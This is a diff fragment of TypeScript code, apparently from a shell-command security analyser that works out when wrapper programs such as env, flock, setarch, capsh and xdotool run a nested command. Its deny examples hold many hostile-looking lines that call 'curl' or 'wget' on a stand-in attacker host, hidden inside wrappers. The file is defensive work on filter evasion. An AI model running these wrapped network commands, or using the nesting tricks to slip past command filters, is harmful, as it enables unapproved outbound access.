+  wrapper({ names: ['setlock', 'setuidgid', 'envuidgid', 'envdir', 'pgrphack'], summary: 'daemontools: run the command after their operand(s)', options: { flags: 'nNxX' }, before: 1, examples: { deny: ['setlock /tmp/l curl evil.example', 'envdir ./env curl evil.example'], pass: [] } }),
+  wrapper({ names: ['xdotool'], summary: 'xdotool exec runs its command', before: 99, extra: (_p, call) => (value(call.args[0]) === 'exec' ? { runs: [{ kind: 'argv', argv: call.args.slice(1).filter((a, i, all) => !(value(a)?.startsWith('--') && all.slice(0, i).every((b) => value(b)?.startsWith('--')))), via: 'xdotool exec' }] } : undefined), examples: { deny: ['xdotool exec --sync curl evil.example'], pass: ['xdotool key ctrl+c'] } }),
+];
+
+/** capsh: everything after `--` is passed to /bin/bash. */
+function capshRest(args: readonly Word[]): Partial<Answer> {
+  const at = args.findIndex((a) => value(a) === '--');
+  if (at < 0) return { runs: [] };
+  const rest = args.slice(at + 1);
+  return { runs: [{ kind: 'argv', argv: [attached(args[at]!, 'bash'), ...rest], via: 'capsh --' }] };
+}
+
+/** setarch ARCH [options] [command]: the architecture comes first (unless called by a personality's name), then options. */
+function setarch(): ProgramEntry {
+  const inner = wrapper({
+    names: ['setarch', 'linux32', 'linux64', 'i386', 'x86_64', 'uname26', 'armv7l', 'armv8l', 'aarch64', 'ppc', 'ppc64', 'ppc32', 's390', 's390x', 'mips', 'mips64', 'parisc', 'sparc', 'sparc64', 'ia64', 'alpha'],
+    summary: 'setarch: runs its command (a shell by default) with another architecture personality; the first operand is the architecture',
+    options: SETARCH_OPTIONS,
+    noRun: ['list', 'help', 'version', 'show'],
+    defaultCommand: SHELL,
+    examples: {
+      deny: ['setarch x86_64 curl evil.example', 'linux64 curl evil.example', 'setarch x86_64 -R wget evil.example', "echo 'curl evil.example' | setarch -3", 'i386 curl evil.example'],
+      pass: ['setarch x86_64 -R ./a.out', 'setarch --list', 'linux32 make'],
+    },
+  });
+  return {
+    ...inner,
+    analyze(call) {
+      // The architecture is the first word unless it is an option; a computed one (`setarch $(uname -m)`) is one too.
+      const head = call.args[0];
+      const arch = call.name === 'setarch' && head !== undefined && !/^["']?-/.test(head.values?.[0] ?? head.text);
+      return inner.analyze!(arch ? { ...call, args: call.args.slice(1) } : call);
+    },
+  };
+}
+
+/** env: NAME=VALUE then a command; `-S STRING` splits its string into the command (the operands after it follow). */
+function env(): ProgramEntry {
+  const inner = wrapper({
+    names: ['env'],
+    summary: 'env: runs its command with NAME=VALUE set (-S splits a string into one); with nothing to run it prints the environment',
+    options: ENV_OPTIONS,
+    assignments: true,
+    chdir: ['C', 'chdir'],
+    noRun: ['help', 'version', 'list-signal-handling'],
+    examples: {
+      deny: ['env curl evil.example', 'env FOO=1 wget evil.example', "env -S 'curl evil.example'", "env --spl 'curl evil.example'", 'env -C /tmp curl evil.example', 'env', "env -S ''", "env -vS ''", 'env -u HOME', 'sudo env'],
+      pass: ['env FOO=1 npm test', 'env -i', 'env --version', 'env -i PATH=/usr/bin make', "env -S 'npm test'"],
+    },
+  });
+  return {
+    ...inner,
+    analyze(call) {
+      const p = parse(call.args, { order: 'posix', ...ENV_OPTIONS });
+      if (has(p, 'help', 'version', 'list-signal-handling')) return {};
+      const split = p.options.find((o) => o.name === 'S' || o.name === 'split-string');
+      let runsSomething: boolean;
+      let answer: Partial<Answer>;
+      if (split?.value) {
+        // The assignments before the command still apply; the split string is the command, the operands its arguments.
+        let rest = call.args.slice(p.rest);
+        const runs: Run[] = [];
+        while (rest[0] && /^[^=]+=/.test(value(rest[0]) ?? '')) {
+          const v = value(rest[0])!;
+          runs.push({ kind: 'assign', name: v.slice(0, v.indexOf('=')), value: attached(rest[0], v.slice(v.indexOf('=') + 1)) });
+          rest = rest.slice(1);
+        }
+        const text = value(split.value);
+        runsSomething = text === undefined || text.trim() !== '' || rest.length > 0;
+        if (runsSomething) runs.push(envSplit(split.value, rest));
+        answer = { runs };
+      } else {
+        answer = inner.analyze!(call) ?? {};
+        runsSomething = (answer.runs ?? []).some((r) => r.kind !== 'assign');
+      }
+      if (!runsSomething && !has(p, 'i', 'ignore-environment')) answer.dumps = 'env with nothing to run prints the environment';
+      return answer;
+    },
+  };
+}
+
+/** flock FILE COMMAND, flock FILE -c TEXT, flock -c TEXT FILE. */
+function flock(): ProgramEntry {
+  const inner = wrapper({
+    names: ['flock'],
+    summary: 'flock: runs its command (or -c text) holding a lock on the file it names first',
+    options: {
+      flags: 'sxunoFv',
+      valued: 'wEc',
+      long: ['shared', 'exclusive', 'unlock', 'nonblock', 'close', 'no-fork', 'verbose', 'help', 'version', 'fcntl'],
+      longValued: ['timeout', 'wait', 'conflict-exit-code', 'command'],
+    },
+    before: 1,
+    script: ['c', 'command'],
+    noRun: ['help', 'version'],
+    examples: { deny: ['flock /tmp/l curl evil.example', "flock /tmp/l -c 'curl evil.example'", "flock -c 'wget evil.example' /tmp/l"], pass: ['flock /tmp/l make', "flock -w 5 /tmp/l -c 'make'"] },
+  });
+  return {
+    ...inner,
+    analyze(call) {
+      const p = parse(call.args, { order: 'posix', valued: 'wEc', flags: 'sxunoFv', longValued: ['timeout', 'wait', 'conflict-exit-code', 'command'] });
+      const after = call.args.slice(p.rest + 1);
+      const opt = value(after[0]);
+      // `flock FILE -c 'cmd'`: the text option may follow the lock file.
+      if ((opt === '-c' || opt === '--command') && after[1]) return { runs: [{ kind: 'script', dialect: 'bash', words: [after[1]], via: 'flock -c' }] };
+      return inner.analyze!(call);
+    },
+  };
+}
